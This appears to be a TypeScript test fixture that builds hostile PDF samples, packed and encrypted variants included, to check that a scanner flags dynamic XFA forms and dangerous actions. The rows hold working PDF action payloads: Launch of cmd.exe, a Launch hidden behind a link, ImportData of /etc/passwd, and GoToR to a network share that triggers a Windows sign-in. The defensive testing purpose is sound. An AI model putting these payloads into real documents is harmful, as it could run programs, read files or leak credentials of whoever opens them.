import { annotated, form, hostilePdf, link, opens, type PdfRow } from './pdf-contents.ts'

const rows: PdfRow[] = [
  [
    'xfa',
    'shows a form of XFA, which is a program',
    'pdf_has_dynamic_form',
    form('/XFA 10 0 R', [{ dictionary: '', data: Buffer.from('<xdp/>') }]),
  ],
  [
    'xfa-parts',
    'shows a form of XFA in parts',
    'pdf_has_dynamic_form',
    form('/XFA [(template) 10 0 R]', [{ dictionary: '', data: Buffer.from('<t/>') }]),
  ],
  [
    'xfa-packed',
    'shows a form of XFA whose name is packed',
    'pdf_has_dynamic_form',
    { ...form('/XFA [(template) 10 0 R]'), isPacked: true },
  ],
  [
    'xfa-encrypted',
    'shows a form of XFA whose name is encrypted',
    'pdf_has_dynamic_form',
    { ...form('/XFA [(template) 10 0 R]'), isPacked: true, encrypt: 'aes-256' },
  ],
  ['launch', 'starts a program of the system', 'pdf_has_actions', opens('<< /S /Launch /F (cmd.exe) >>')],
  [
    'launch-windows',
    'starts a program with parameters',
    'pdf_has_actions',
    link('<< /S /Launch /Win << /F (cmd.exe) /P (/c calc) >> >>'),
  ],
  [
    'launch-network',
    'starts a program of the network',
    'pdf_has_actions',
    link('<< /S /Launch /F (\\\\\\\\host\\\\a.exe) >>'),
  ],
  [
    'launch-packed',
    'starts a program, packed',
    'pdf_has_actions',
    { ...opens('<< /S /Launch /F (cmd.exe) >>'), isPacked: true },
  ],
  [
    'launch-encrypted',
    'starts a program, packed and encrypted',
    'pdf_has_actions',
    { ...opens('<< /S /Launch /F (cmd.exe) >>'), isPacked: true, encrypt: 'rc4-128' },
  ],
  [
    'launch-behind',
    'starts a program behind a harmless link',
    'pdf_has_actions',
    link('<< /S /URI /URI (https://example.org) /Next << /S /Launch /F (a.exe) >> >>'),
  ],
  [
    'submit',
    'sends what is typed to a server',
    'pdf_has_actions',
    annotated(
      '/Subtype /Widget /FT /Btn /T (a) /A << /S /SubmitForm /F << /FS /URL /F (https://example.org) >> >>',
    ),
  ],
  [
    'submit-at-opening',
    'tells a server who opened it',
    'pdf_has_actions',
    opens('<< /S /SubmitForm /F (https://example.org) /Flags 4 >>'),
  ],
  [
    'import',
    'reads a file of the reader into its form',
    'pdf_has_actions',
    opens('<< /S /ImportData /F (/etc/passwd) >>'),
  ],
  [
    'remote-network',
    'makes Windows sign in at a server of the network',
    'pdf_has_actions',
    opens('<< /S /GoToR /F (\\\\\\\\host\\\\a.pdf) /D [0 /Fit] >>'),
  ],
  [
    'remote-packed',
    'the same, packed',
    'pdf_has_actions',
    { ...opens('<< /S /GoToR /F (//host/a.pdf) /D [0 /Fit] >>'), isPacked: true },
  ],
  [
    'embedded-network',
    'opens a file in a file of the network',
    'pdf_has_actions',
    opens('<< /S /GoToE /F (\\\\\\\\host\\\\a.pdf) /T << /R /C >> >>'),
  ],
  [
    'stream-outside',
    'takes a stream from the network',
    'pdf_has_actions',
    { objects: [{ dictionary: '/F (\\\\\\\\host\\\\a) ', data: Buffer.alloc(0) }] },
  ],
  [
    'thread-elsewhere',
    'reads an article of another file',
    'pdf_has_actions',
    link('<< /S /Thread /F (a.pdf) /D 0 >>'),
  ],
  [
    'action-unknown',
    'asks for what no list knows',
    'pdf_has_actions',
    opens('<< /S /ShellExecute /F (a) >>'),
  ],
  [
    'action-unknown-referred',
    'the same, from another object',
    'pdf_has_actions',
    { ...opens('10 0 R'), objects: ['<< /S /ShellExecute >>'], isPacked: true },
  ],
  [
    'command-unknown',
    'asks the reader to close, and for whatever its menus offer',
    'pdf_has_actions',
    opens('<< /S /Named /N /Quit >>'),
  ],
]

export const pdfActions = rows.map(hostilePdf)
